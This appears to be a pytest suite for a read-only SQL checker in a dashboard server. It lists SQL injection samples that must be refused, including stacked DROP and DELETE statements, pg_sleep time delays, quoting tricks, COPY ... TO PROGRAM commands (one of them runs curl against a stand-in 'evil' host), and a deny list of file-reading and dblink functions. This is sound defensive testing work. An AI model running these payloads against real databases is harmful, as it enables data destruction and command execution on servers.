"""Save-time SQL checks, table-driven: an injection corpus in the SQL itself (stacked queries,
comment and quoting tricks, look-alike quotes, pg_sleep in every spelling, COPY … TO PROGRAM,
writes through CTEs, set_config, SELECT … INTO, row locks, DO, DDL) must be refused with a useful
message at the right line and column; benign text that merely looks dangerous (dollar quotes
holding `;`, `:name` inside strings and comments, `::` casts) must be accepted."""

from __future__ import annotations

import re
from dataclasses import dataclass

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dashboard.v1 import query_pb2
from server.queries.sql_check import (
    FACILITY_PLACEHOLDER,
    SqlAnalysis,
    SqlIssue,
    analyze,
    check_parameters,
    denied_function_reason,
    to_pyformat,
)

Q = query_pb2


def position(sql: str, at: str | int, occurrence: int = 0) -> tuple[int, int]:
    """1-based (line, column) of `at` (a substring, its n-th occurrence) or of an offset."""
    if isinstance(at, int):
        offset = at
    else:
        offset = -1
        for _ in range(occurrence + 1):
            offset = sql.index(at, offset + 1)
    line = sql.count("\n", 0, offset) + 1
    column = offset - (sql.rfind("\n", 0, offset) + 1) + 1
    return line, column


def describe(analysis: SqlAnalysis) -> str:
    return "; ".join(f"{i.line}:{i.column} {i.message}" for i in analysis.issues) or "no issues"


@dataclass(frozen=True)
class Refused:
    id: str
    sql: str
    message: str  # a regular expression the issue's message must match
    at: str | int | None  # where the issue must point (substring or offset); None: unknown
    occurrence: int = 0


def refused(rows: list[Refused]) -> pytest.MarkDecorator:
    return pytest.mark.parametrize("row", rows, ids=[r.id for r in rows])


def assert_refused(row: Refused) -> None:
    analysis = analyze(row.sql)
    assert not analysis.ok, f"{row.sql!r} was accepted"
    matching = [i for i in analysis.issues if re.search(row.message, i.message, re.IGNORECASE)]
    assert matching, f"no issue matches {row.message!r}: {describe(analysis)}"
    if row.at is None:
        return
    expected = position(row.sql, row.at, row.occurrence)
    assert any((i.line, i.column) == expected for i in matching), (
        f"expected an issue at {expected}: {describe(analysis)}"
    )


# ---------------------------------------------------------------------------------------------
# Stacked queries and comment / quoting tricks: PostgreSQL's lexer decides what is code.

STACKED = [
    Refused("two selects", "select 1; select 2", "only one statement", "select 2"),
    Refused("classic drop", "select 1; drop table x", "only one statement", "drop"),
    Refused(
        "injected after a string",
        "select * from users where name = 'x'; drop table users; --'",
        "only one statement",
        "drop",
    ),
    Refused("semicolon in a block comment", "select 1 /* ; */ ; delete from x", "only one statement", "delete"),
    Refused("line comment then newline", "select 1 -- harmless ;\n; delete from x", "only one statement", "delete"),
    Refused("line comment ends at CR", "select 1 -- c\r; delete from x", "only one statement", "delete"),
    Refused(
        "nested block comments close late",
        "select 1 /* outer /* inner */ still comment */ ; delete from x",
        "only one statement",
        "delete",
    ),
    Refused(
        "backslash is not an escape in a standard string",
        "select 'a\\' ; delete from t; --'",
        "only one statement",
        "delete",
    ),
    Refused("a $ inside a name is not a quote", "select x$a$ ; delete from t; $a$", "only one statement", "delete"),
    Refused("second statement on line 2", "select 1;\nselect pg_sleep(10)", "only one statement", "select pg"),
    Refused("leading empty statement", "; select 1", "only one statement", "select"),
    Refused("stacked copy", "select 1; copy (select 1) to program 'id'", "only one statement", "copy"),
    Refused("stacked set", "select 1;set role postgres", "only one statement", "set"),
    Refused("stacked after trailing comment", "select 1; -- done\ndelete from t", "only one statement", "delete"),
]


@refused(STACKED)
def test_stacked_queries_are_refused(row: Refused) -> None:
    assert_refused(row)


LEXICAL = [
    Refused("unterminated string", "select 'abc", "unterminated string", "'abc"),
    Refused(
        "unterminated string after injection", "select * from t where name = 'x' OR '1'='1", "unterminated", "'1", 1
    ),
    Refused("unterminated E string", "select e'abc\\'", "unterminated string", "e'"),
    Refused("unterminated bit string", "select b'101", "unterminated bit-string", "b'"),
    Refused("unterminated quoted name", 'select "abc', "unterminated quoted name", '"abc'),
    Refused("zero-length quoted name", 'select 1 as ""', "zero-length", '""'),
    Refused("unterminated block comment", "select 1 /* never closed", "unterminated /\\* comment", "/*"),
    Refused(
        "unterminated nested comment",
        "select 1 /* /* */ ; delete from t",
        "unterminated /\\* comment",
        "/*",
    ),
    Refused("unterminated dollar quote", "select $x$ abc", "unterminated dollar-quoted", "$x$"),
    Refused("unicode-escaped name", 'select U&"pg_sl\\0065ep"(1)', "Unicode-escaped names", "U&"),
    Refused("positional parameter", "select * from t where id = $1", "positional parameters", "$1"),
    Refused("jdbc placeholder", "select * from t where id = ?", "\\? and %s placeholders", "?"),
    Refused("pyformat placeholder", "select * from t where id = %(id)s", "%\\(id\\)s placeholders", "%"),
    Refused("format placeholder", "select * from t where id = %s", "\\? and %s placeholders", "%"),
    Refused("invalid placeholder name", "select :naïve", "invalid placeholder name", ":"),
    Refused(
        "ambiguous slice or placeholder",
        "select a[1 :n] from t",
        "ambiguous :n",
        ":n",
    ),
]


@refused(LEXICAL)
def test_lexical_problems_are_refused(row: Refused) -> None:
    assert_refused(row)


UNICODE_QUOTES = [
    Refused("left single quote", "select \u2018a\u2019", "typographic quote", "\u2018"),
    Refused(
        "right single quote injection",
        "select * from t where name = \u2019x\u2019 or 1=1",
        "typographic quote",
        "\u2019",
    ),
    Refused("double curly quotes", "select \u201ca\u201d", "typographic quote", "\u201c"),
    Refused("fullwidth apostrophe", "select * from t where name = \uff07x\uff07", "typographic quote", "\uff07"),
    Refused("prime", "select \u2032a\u2032", "typographic quote", "\u2032"),
    Refused("backtick", "select `a`", "backticks are not quotes", "`"),
    Refused("inside a name", "select a\u2018b from t", "typographic quote", "\u2018"),
]


@refused(UNICODE_QUOTES)
def test_lookalike_quotes_are_refused(row: Refused) -> None:
    assert_refused(row)


def test_lookalike_quotes_inside_strings_and_quoted_names_are_data() -> None:
    analysis = analyze("select '\u2018quoted\u2019 \u201ctext\u201d' as \"\u2018label\u2019\" -- \u2018comment\u2019")
    assert analysis.ok, describe(analysis)


# ---------------------------------------------------------------------------------------------
# pg_sleep in every spelling and place.

SLEEP_SPELLINGS = [
    ("pg_sleep", "pg_sleep"),
    ("PG_SLEEP", "PG_SLEEP"),
    ("Pg_Sleep", "Pg_Sleep"),
    ('"pg_sleep"', '"pg_sleep"'),
    ('"PG_SLEEP"', '"PG_SLEEP"'),
    ("pg_catalog.pg_sleep", "pg_sleep"),
    ("PG_CATALOG.PG_SLEEP", "PG_SLEEP"),
    ('"pg_catalog"."pg_sleep"', '"pg_sleep"'),
    ("pg_catalog . pg_sleep", "pg_sleep"),
    ("public.pg_sleep", "pg_sleep"),
    ("pg_sleep /* c */ ", "pg_sleep"),
    ("pg_sleep\n", "pg_sleep"),
    ("pg_sleep_for", "pg_sleep_for"),
    ("pg_sleep_until", "pg_sleep_until"),
    ("PG_SLEEP_FOR", "PG_SLEEP_FOR"),
]
SLEEP_PLACES = [
    "select {f}(1)",
    "select * from {f}(1)",
    "select 1 where {f}(1) is null",
    "with s as (select {f}(1)) select * from s",
    "select (select {f}(1))",
    "select 1 from t order by {f}(1)",
    "select case when true then {f}(1) end",
    "values ({f}(1))",
    "select 1 union all select {f}(1)",
    "select count(*) from t group by {f}(1)",
    "select 1\nfrom t\nwhere x > 0 and\n      {f}(1) is null",
]


@pytest.mark.parametrize(("spelling", "name_at"), SLEEP_SPELLINGS, ids=[s for s, _ in SLEEP_SPELLINGS])
@pytest.mark.parametrize("place", SLEEP_PLACES)
def test_pg_sleep_is_refused_in_every_spelling_and_place(place: str, spelling: str, name_at: str) -> None:
    sql = place.format(f=spelling)
    prefix = place.split("{f}")[0]
    offset = len(prefix) + spelling.rindex(name_at)
    assert_refused(
        Refused(sql, sql, r"function pg_sleep(_for|_until)?\(\) is not allowed: it makes the server sleep", offset)
    )


# ---------------------------------------------------------------------------------------------
# Denied functions: every name on the list, whatever its case, quoting or schema.

DENIED = [
    "pg_sleep",
    "pg_sleep_for",
    "pg_sleep_until",
    "set_config",
    "pg_read_file",
    "pg_read_binary_file",
    "pg_ls_dir",
    "pg_ls_logdir",
    "pg_stat_file",
    "lo_import",
    "lo_export",
    "lo_unlink",
    "lo_from_bytea",
    "lo_put",
    "lo_get",
    "loread",
    "lowrite",
    "dblink",
    "dblink_exec",
    "dblink_connect",
    "pg_terminate_backend",
    "pg_cancel_backend",
    "pg_reload_conf",
    "pg_rotate_logfile",
    "pg_advisory_lock",
    "pg_advisory_lock_shared",
    "pg_advisory_xact_lock",
    "pg_advisory_xact_lock_shared",
    "pg_try_advisory_lock",
    "pg_try_advisory_xact_lock",
    "pg_advisory_unlock_all",
    "txid_current",
    "pg_current_xact_id",
    "nextval",
    "setval",
    "currval",
    "lastval",
    "pg_notify",
    "query_to_xml",
    "query_to_xml_and_xmlschema",
    "query_to_xmlschema",
    "query_to_json",
    "cursor_to_xml",
    "table_to_xml",
    "schema_to_xml",
    "database_to_xml",
    "ts_stat",
    "ts_rewrite",
    "crosstab",
    "crosstab3",
    "connectby",
    "pg_create_restore_point",
    "pg_switch_wal",
    "pg_promote",
    "pg_logical_emit_message",
    "pg_replication_origin_create",
    "pg_stat_reset",
    "pg_stat_reset_shared",
    "pg_file_write",
    "brin_summarize_new_values",
    "postgres_fdw_disconnect_all",
]


@pytest.mark.parametrize("name", DENIED)
@pytest.mark.parametrize("form", ["{n}", "{N}", '"{n}"', "pg_catalog.{n}", '"pg_catalog"."{n}"'])
def test_denied_functions_are_refused(name: str, form: str) -> None:
    spelled = form.format(n=name, N=name.upper())
    sql = f"select {spelled}('x')"
    last = spelled.rsplit(".", 1)[-1]
    assert_refused(Refused(sql, sql, f"function {name}\\(\\) is not allowed: ", len("select ") + spelled.rindex(last)))


ALLOWED_FUNCTIONS = [
    "select current_setting('tessera.facility_id')",
    "select current_setting('tessera.facility_id', true)",
    "select xpath('/a/text()', '<a>x</a>'::xml)",
    "select pg_typeof(1), pg_size_pretty(1024::bigint)",
    "select now(), count(*), upper('a'), date_trunc('day', now())",
    "select pg_sleep from t",  # a column named like a function is not a call
    "select 'pg_sleep(10)', $$ set_config('role','x',false) $$",
    "select 1 -- pg_sleep(10)\n",
    "select 1 /* pg_sleep(10) */",
    'select "pg_sleep" from t',
    "select t.nextval from t",
    "select lower('lo_import(1)')",
]


@pytest.mark.parametrize("sql", ALLOWED_FUNCTIONS)
def test_harmless_functions_and_mentions_are_accepted(sql: str) -> None:
    analysis = analyze(sql)
    assert analysis.ok, describe(analysis)


@pytest.mark.parametrize(
    ("name", "denied"),
    [
        ("pg_sleep", True),
        ("PG_SLEEP", True),
        ("Pg_Advisory_Xact_Lock", True),
        ("dblink_send_query", True),
        ("current_setting", False),
        ("xpath", False),
        ("pg_typeof", False),
        ("lower", False),
        ("sleep", False),
    ],
)
def test_denied_function_reason(name: str, denied: bool) -> None:
    assert (denied_function_reason(name) is not None) is denied


# ---------------------------------------------------------------------------------------------
# Writes and state changes, anywhere in the tree.

WRITES = [
    Refused(
        "delete in a CTE",
        "with x as (delete from t returning *) select * from x",
        "DELETE is not allowed: .*inside WITH",
        "delete",
    ),
    Refused(
        "update in a CTE",
        "with x as (update t set a = 1 returning *) select * from x",
        "UPDATE is not allowed",
        "update",
    ),
    Refused(
        "insert in a CTE",
        "with x as (insert into t values (1) returning *) select * from x",
        "INSERT is not allowed",
        "insert",
    ),
    Refused(
        "merge in a CTE",
        "with x as (merge into t using s on t.id = s.id when matched then delete returning *) select * from x",
        "MERGE is not allowed",
        "merge",
    ),
    Refused(
        "materialized CTE",
        "with x as materialized (delete from t returning *) select 1",
        "DELETE is not allowed",
        "delete",
    ),
    Refused(
        "second CTE writes",
        "with a as (select 1), b as (delete from t returning 1) select * from a, b",
        "DELETE is not allowed",
        "delete",
    ),
    Refused(
        "CTE then DELETE",
        "with x as (select 1) delete from t",
        "this statement is DELETE",
        "delete",
    ),
    Refused(
        "CTE then INSERT",
        "with x as (select 1) insert into t select * from x",
        "INSERT",
        "insert",
    ),
    Refused("insert", "insert into t values (1)", "found INSERT", "insert"),
    Refused("update", "update t set a = 1", "found UPDATE", "update"),
    Refused("delete", "delete from t", "found DELETE", "delete"),
    Refused("delete after whitespace", "\n\n   delete from t", "found DELETE", "delete"),
    Refused("merge", "merge into t using s on t.id = s.id when matched then delete", "found MERGE", "merge"),
    Refused("select into", "select * into t from x", "INTO is not allowed", "into"),
    Refused("select into temp", "select 1 as a into temp t", "INTO is not allowed", "into"),
    Refused("select into unlogged", "select * into unlogged t2 from t", "INTO is not allowed", "into"),
    Refused("select into after where", "select a from t where a > 1 into t2", "INTO", "into"),
    Refused("for update", "select * from t for update", "row locks", "for"),
    Refused("for share", "select * from t for share", "row locks", "for"),
    Refused("for no key update", "select * from t for no key update", "row locks", "for"),
    Refused("for key share", "select * from t for key share", "row locks", "for"),
    Refused("for update skip locked", "select * from t for update skip locked", "row locks", "for"),
    Refused("for update of", "select * from t for update of t nowait", "row locks", "for"),
    Refused(
        "delete in a FROM subquery", "select * from (delete from t returning *) s", "DELETE is not allowed", "delete"
    ),
    Refused("lock in a subquery", "select * from (select * from t for update) s", "row locks", "for"),
    Refused("lock in a scalar subquery", "select (select 1 from t for update)", "row locks", "for"),
    Refused("lock on line 3", "select *\nfrom t\nwhere a = 1 FOR UPDATE", "row locks", "FOR"),
]


@refused(WRITES)
def test_writes_are_refused_anywhere(row: Refused) -> None:
    assert_refused(row)


STATEMENTS = [
    ("copy to program", "COPY (select 1) TO PROGRAM 'id'", "COPY"),
    ("copy to file", "copy t to '/tmp/x'", "COPY"),
    ("copy from program", "copy t from program 'curl http://evil'", "COPY"),
    ("do", "do $$ begin perform pg_sleep(1); end $$", "DO"),
    ("do with language", "DO LANGUAGE plpgsql $$ begin null; end $$", "DO"),
    ("call", "call p()", "CALL"),
    ("lock", "lock table t", "LOCK"),
    ("lock mode", "lock t in access exclusive mode", "LOCK"),
    ("set role", "set role postgres", "SET"),
    ("set local", "set local statement_timeout = 0", "SET"),
    ("set session authorization", "set session authorization postgres", "SET"),
    ("reset", "reset role", "RESET"),
    ("reset all", "reset all", "RESET"),
    ("create table", "create table t (a int)", "CREATE"),
    ("create table as", "create temp table t as select 1", "CREATE"),
    ("create function", "create or replace function f() returns int as $$ select 1 $$ language sql", "CREATE"),
    ("create role", "create role r superuser", "CREATE"),
    ("create extension", "create extension dblink", "CREATE"),
    ("create index", "create index i on t (a)", "CREATE"),
    ("drop", "drop table t", "DROP"),
    ("drop cascade", "drop table if exists t cascade", "DROP"),
    ("alter table", "alter table t add column b int", "ALTER"),
    ("alter role", "alter role x superuser", "ALTER"),
    ("alter system", "alter system set shared_buffers = '1GB'", "ALTER"),
    ("grant", "grant all on t to public", "GRANT"),
    ("revoke", "revoke select on t from r", "REVOKE"),
    ("truncate", "truncate t", "TRUNCATE"),
    ("truncate table", "truncate table t restart identity", "TRUNCATE"),
    ("vacuum", "vacuum", "VACUUM"),
    ("vacuum full", "vacuum full t", "VACUUM"),
    ("analyze", "analyze t", "ANALYZE"),
    ("cluster", "cluster t", "CLUSTER"),
    ("reindex", "reindex table t", "REINDEX"),
    ("comment", "comment on table t is 'x'", "COMMENT"),
    ("refresh", "refresh materialized view v", "REFRESH"),
    ("explain analyze", "explain analyze delete from t", "EXPLAIN"),
    ("explain", "explain select 1", "EXPLAIN"),
    ("notify", "notify c, 'x'", "NOTIFY"),
    ("listen", "listen c", "LISTEN"),
    ("prepare", "prepare p as delete from t", "PREPARE"),
    ("execute", "execute p", "EXECUTE"),
    ("begin", "begin", "BEGIN"),
    ("commit", "commit", "COMMIT"),
    ("start transaction", "start transaction read write", "START"),
    ("savepoint", "savepoint s", "SAVEPOINT"),
    ("discard", "discard all", "DISCARD"),
    ("checkpoint", "checkpoint", "CHECKPOINT"),
    ("load", "load 'plugin'", "LOAD"),
    ("declare", "declare c cursor for select 1", "DECLARE"),
    ("show", "show all", "SHOW"),
    ("security label", "security label on table t is 'x'", "SECURITY"),
    ("import foreign schema", "import foreign schema s from server x into y", "IMPORT"),
]


@pytest.mark.parametrize(("sql", "keyword"), [(s, k) for _, s, k in STATEMENTS], ids=[i for i, _, _ in STATEMENTS])
def test_other_statements_are_refused_at_their_first_word(sql: str, keyword: str) -> None:
    assert_refused(Refused(sql, sql, f"only one read-only query is allowed .*; found {keyword}\\b", 0))


def test_do_block_hides_nothing() -> None:
    analysis = analyze("do $$ begin perform pg_sleep(10); end $$")
    assert [(i.line, i.column) for i in analysis.issues] == [(1, 1)]


# ---------------------------------------------------------------------------------------------
# Parse errors: sqlglot's position, pointing at the start of the offending token.


@pytest.mark.parametrize(
    ("sql", "expected"),
    [
        ("select * from t where", (1, 17)),
        ("select 1 from\n t where (", (2, 10)),
        ("select 1 +", (1, 10)),
        ("select 1 from t where a = = 1", None),
        ("select from where", None),
    ],
)
def test_parse_errors_become_issues_with_positions(sql: str, expected: tuple[int, int] | None) -> None:
    analysis = analyze(sql)
    assert not analysis.ok
    issue = analysis.issues[0]
    assert issue.message.startswith("syntax error"), describe(analysis)
    assert issue.line >= 1 and issue.column >= 1
    if expected is not None:
        assert (issue.line, issue.column) == expected, describe(analysis)


@pytest.mark.parametrize("sql", ["", "   ", "-- only a comment", "/* nothing */", ";", " ; ; "])
def test_empty_sql_is_refused(sql: str) -> None:
    analysis = analyze(sql)
    assert analysis.issues == (SqlIssue("the SQL is empty: write one SELECT", 1, 1),)


# ---------------------------------------------------------------------------------------------
# Accepted: read-only queries, including ones that only look dangerous.

ACCEPTED: list[tuple[str, str, tuple[str, ...]]] = [
    ("plain", "select 1", ()),
    ("trailing semicolon", "select 1;", ()),
    ("trailing semicolons", "select 1;;", ()),
    ("trailing comment", "select 1 ;\n-- done\n", ()),
    ("dollar quote with semicolon", "select $$a;b$$", ()),
    ("tagged dollar quote with a statement", "select $tag$ ; drop table t; $tag$ as s", ()),
    ("nested-looking tags", "select $a$ $b$ ; $b$ $a$", ()),
    ("doubled quote", "select 'it''s; fine'", ()),
    ("E string escape", "select e'it\\'s; fine'", ()),
    ("E string hides its semicolon", "select e'\\' ; delete from t; --'", ()),
    ("backslash at the end of a standard string", "select 'a\\'", ()),
    ("comment markers in strings", "select '--', '/*', '*/'", ()),
    ("semicolon in a comment", "select 1 /* comment ; with semicolon */", ()),
    ("statement in a line comment", "select 1 -- ; drop table t", ()),
    ("nested comments", "select 1 /* outer /* inner ; */ still comment ; */", ()),
    ("classic tautology in the SQL", "select * from t where name = '' OR 1=1 --'", ()),
    ("tautology and a trailing comment", "select * from t where id = 1 OR 1=1; --", ()),
    ("doubled quotes inside", "select * from t where a = 'x'' or ''1''=''1'", ()),
    ("statements as string data", "select 'select pg_sleep(10)', '; drop table t; --'", ()),
    ("placeholders", "select * from t where a = :a and b = :b and c = :a", ("a", "b")),
    (
        "placeholder look-alikes in strings, names and comments",
        "select ':not', \"col:not\", $$ :not $$ from t where x = :yes -- :no\n /* :no */",
        ("yes",),
    ),
    ("casts", "select :d::date, x::int, :n::numeric(10,2), '1'::int from t", ("d", "n")),
    ("array slices", "select a[1:n], a[i:j], a[:m] from t", ("m",)),
    ("date range parts", "select 1 from t where d between :r_start and :r_end", ("r_start", "r_end")),
    ("array of placeholders", "select array[:a, :b]", ("a", "b")),
    ("any", "select * from t where id = any(:ids)", ("ids",)),
    ("facility", "select * from t where facility_id = :facility_id", ("facility_id",)),
    ("placeholder after paren and operator", "select (:a+:b)*:c", ("a", "b", "c")),
    ("percent", "select '%' || :p, 10 % 3 from t", ("p",)),
    ("window", "select a, row_number() over (partition by b order by c desc) from t", ()),
    ("filter", "select count(*) filter (where ok) as n from t", ()),
    (
        "dates",
        "select date_trunc('day', ts) as day, count(*) from t where ts >= now() - interval '7 days' group by 1",
        (),
    ),
    ("time zone", "select ts at time zone 'UTC' from t", ()),
    ("jsonb", "select data ->> 'a', data -> 'b', data ? 'key', data @> '{\"a\":1}'::jsonb from t", ()),
    ("ilike and regex", "select * from t where a ilike :q or a ~ '^x' or a similar to 'y%'", ("q",)),
    ("generate_series", "select * from generate_series(1, 10) as g(n)", ()),
    ("lateral", "select * from t, lateral (select * from u where u.t_id = t.id limit 1) x", ()),
    ("distinct on", "select distinct on (a) a, b from t order by a, b desc", ()),
    ("grouping sets", "select a, b, sum(c) from t group by grouping sets ((a), (b), ())", ()),
    ("ordered-set aggregate", "select percentile_cont(0.5) within group (order by x) from t", ()),
    ("extract", "select extract(epoch from ts) from t", ()),
    ("is distinct from", "select * from t where a is distinct from b", ()),
    ("recursive", "with recursive r(n) as (select 1 union all select n + 1 from r where n < 5) select * from r", ()),
    ("set operations", "select 1 union all select 2 intersect select 3 except select 4", ()),
    ("values", "values (1, 'a'), (2, 'b')", ()),
    ("table", "table t", ()),
    ("parenthesised", "(select 1) union (select 2)", ()),
    ("exists and case", "select case when exists (select 1 from u) then 'y' else 'n' end", ()),
    ("substring for", "select substring(x for 2), substring(x from 1 for key) from t", ()),
    ("rls setting", "select * from t where facility = current_setting('tessera.facility_id')", ()),
    ("coalesce nullif greatest", "select coalesce(a, 0), nullif(b, 0), greatest(a, b) from t", ()),
    ("multi-line", "select a,\n       b\n  from t\n where c = :c\n order by a", ("c",)),
    ("mixed case keywords", "SeLeCt A FrOm T WhErE b = :B", ("B",)),
    ("quoted names", 'select "Weird Name", "select" from "Table"', ()),
    ("non-ASCII", "select 'ünïcödé' as naïve, '日本' from t", ()),
    ("empty select list", "select", ()),
]


@pytest.mark.parametrize(("sql", "placeholders"), [(s, p) for _, s, p in ACCEPTED], ids=[i for i, _, _ in ACCEPTED])
def test_read_only_queries_are_accepted(sql: str, placeholders: tuple[str, ...]) -> None:
    analysis = analyze(sql)
    assert analysis.ok, describe(analysis)
    assert analysis.placeholders == placeholders


def test_placeholder_uses_carry_positions_and_first_use_order() -> None:
    sql = "select :b,\n  :a from t\n where x = :b"
    analysis = analyze(sql)
    assert analysis.placeholders == ("b", "a")
    assert [(u.name, u.line, u.column) for u in analysis.uses] == [("b", 1, 8), ("a", 2, 3), ("b", 3, 12)]


# ---------------------------------------------------------------------------------------------
# Output columns.


@pytest.mark.parametrize(
    ("sql", "columns"),
    [
        ('select a, b as c, T.D, "Q" from t', ("a", "c", "d", "Q")),
        (
            'select count(*), now(), upper(x), pg_catalog.lower(y), "F"(z) from t',
            ("count", "now", "upper", "lower", "F"),
        ),
        ("select x::int, cast(y as text) from t", ("x", "y")),
        ("select case when a then 1 end from t", ("case",)),
        ("with w as (select 1 as n) select n from w", ("n",)),
        ("select a from t union select b from u", ("a",)),
        ("values (1, 2, 3)", ("column1", "column2", "column3")),
        ("(select a as x from t)", ("x",)),
        ("select * from t", None),
        ("select t.* from t", None),
        ("select a, * from t", None),
        ("select 1", None),
        ("select :p", None),
        ("table t", None),
    ],
)
def test_output_columns(sql: str, columns: tuple[str, ...] | None) -> None:
    analysis = analyze(sql)
    assert analysis.ok, describe(analysis)
    assert analysis.output_columns == columns


def test_refused_sql_has_no_output_columns_when_unparsable() -> None:
    assert analyze("select a from").output_columns is None


# ---------------------------------------------------------------------------------------------
# Placeholders against declarations.

STR, INT, RANGE = Q.PARAMETER_TYPE_STRING, Q.PARAMETER_TYPE_INT, Q.PARAMETER_TYPE_DATE_RANGE


@pytest.mark.parametrize(
    ("sql", "declared", "expected"),
    [
        ("select :a, :b", {"a": STR, "b": INT}, []),
        ("select :a", {}, ["placeholder :a is not a declared parameter @1:8"]),
        ("select 1", {"a": STR}, ["parameter a is declared but :a is not used"]),
        ("select :facility_id", {}, []),
        (
            "select :facility_id",
            {"facility_id": STR},
            ["facility_id is reserved: the server binds :facility_id to your facility"],
        ),
        ("select * from t where d between :p_start and :p_end", {"p": RANGE}, []),
        ("select * from t where d >= :p_start", {"p": RANGE}, ["date range parameter p is declared but :p_end unused"]),
        ("select 1", {"p": RANGE}, ["date range parameter p is declared but :p_start and :p_end unused"]),
        (
            "select :p, :p_start, :p_end",
            {"p": RANGE},
            [":p is a date range: use :p_start and :p_end @1:8"],
        ),
        (
            "select :p_start, :p_end",
            {"p": RANGE, "p_start": INT},
            ["parameter p_start clashes with the date range p, which binds :p_start"],
        ),
        ("select :p_start", {"p_start": INT}, []),
        (
            "select :x,\n :y, :x",
            {},
            ["placeholder :x is not a declared parameter @1:8", "placeholder :y is not a declared parameter @2:2"],
        ),
    ],
)
def test_check_parameters(sql: str, declared: dict[str, int], expected: list[str]) -> None:
    analysis = analyze(sql)
    assert analysis.ok, describe(analysis)
    got = [f"{i.message} @{i.line}:{i.column}" if i.line else i.message for i in check_parameters(analysis, declared)]
    assert got == expected


def test_facility_placeholder_name() -> None:
    assert FACILITY_PLACEHOLDER == "facility_id"


# ---------------------------------------------------------------------------------------------
# The driver's form.


@pytest.mark.parametrize(
    ("sql", "expected"),
    [
        ("select :a", "select %(a)s"),
        ("select :a::int, x::int", "select %(a)s::int, x::int"),
        ("select ':a', \":a\", $$:a$$", "select ':a', \":a\", $$:a$$"),
        ("select '%', 10 % 3, :p", "select '%%', 10 %% 3, %(p)s"),
        ("select 1 -- :c %\n, :d /* :e % */ ;  -- bye", "select 1  \n, %(d)s"),
        ("select a[1:n], a[:m]", "select a[1:n], a[%(m)s]"),
        ("select 1;;", "select 1"),
    ],
)
def test_to_pyformat(sql: str, expected: str) -> None:
    assert analyze(sql).ok
    assert to_pyformat(sql) == expected


@pytest.mark.parametrize("sql", ["select 'abc", "select 1; select 2"])
def test_to_pyformat_refuses_what_analyze_refuses(sql: str) -> None:
    with pytest.raises(ValueError):
        to_pyformat(sql)


# ---------------------------------------------------------------------------------------------
# Properties: never an exception; data stays data.

SQLISH = st.text(alphabet="selctfromwhd 1;'\"$-/*:\\\n()eE&Uu.,?%\u2018", max_size=60)


@settings(max_examples=400, deadline=None)
@given(SQLISH)
def test_analyze_never_raises_and_positions_are_valid(sql: str) -> None:
    analysis = analyze(sql)
    lines = sql.split("\n")
    for issue in analysis.issues:
        assert issue.message
        if issue.line:
            assert 1 <= issue.line <= len(lines)
            assert 1 <= issue.column <= len(lines[issue.line - 1]) + 1
    if analysis.ok:
        to_pyformat(sql)  # checked SQL always has a driver form


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=80).filter(lambda s: "\x00" not in s))
def test_any_string_literal_is_data(content: str) -> None:
    quoted = "'" + content.replace("'", "''") + "'"
    analysis = analyze(f"select {quoted} as v from t where a = :a")
    assert analysis.ok, describe(analysis)
    assert analysis.placeholders == ("a",)
    assert to_pyformat(f"select {quoted}, :a") == f"select {quoted.replace('%', '%%')}, %(a)s"


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=80).filter(lambda s: "$q$" not in s and "\x00" not in s and not s.endswith("$")))
def test_any_dollar_quoted_text_is_data(content: str) -> None:
    analysis = analyze(f"select $q${content}$q$ as v")
    assert analysis.ok, describe(analysis)
    assert analysis.placeholders == ()


def test_corpus_size() -> None:
    # Keeps the report honest: the number of SQL texts this file checks (hypothesis adds more).
    refused_rows = len(STACKED) + len(LEXICAL) + len(UNICODE_QUOTES) + len(WRITES) + len(STATEMENTS)
    generated = len(SLEEP_PLACES) * len(SLEEP_SPELLINGS) + len(DENIED) * 5
    assert refused_rows + generated + len(ACCEPTED) + len(ALLOWED_FUNCTIONS) >= 650
